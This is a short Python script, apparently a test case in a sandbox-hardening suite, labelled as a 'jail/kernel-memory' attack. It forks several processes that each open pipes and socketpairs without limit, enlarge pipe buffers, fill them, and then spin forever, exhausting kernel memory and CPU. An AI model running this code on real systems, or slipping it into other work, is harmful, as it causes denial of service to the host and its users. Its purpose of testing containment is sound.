# attack: jail/kernel-memory
# oracle: memory
# imports: os, socket, fcntl
# tools:
# source: own
# note: memory of the kernel: pipes and sockets filled, by many processes
import fcntl, os, socket
for _ in range(4):
    try:
        os.fork()
    except OSError:
        pass
held = []
try:
    while True:
        r, w = os.pipe()
        held += [r, w]
        try:
            fcntl.fcntl(w, 1031, 1 << 20)
        except OSError:
            pass
        os.set_blocking(w, False)
        a, b = socket.socketpair()
        held += [a, b]
        a.setblocking(False)
        for write in (lambda: os.write(w, bytes(1 << 20)), lambda: a.send(bytes(1 << 18))):
            try:
                while True:
                    write()
            except OSError:
                pass
except OSError:
    pass
while True:
    pass
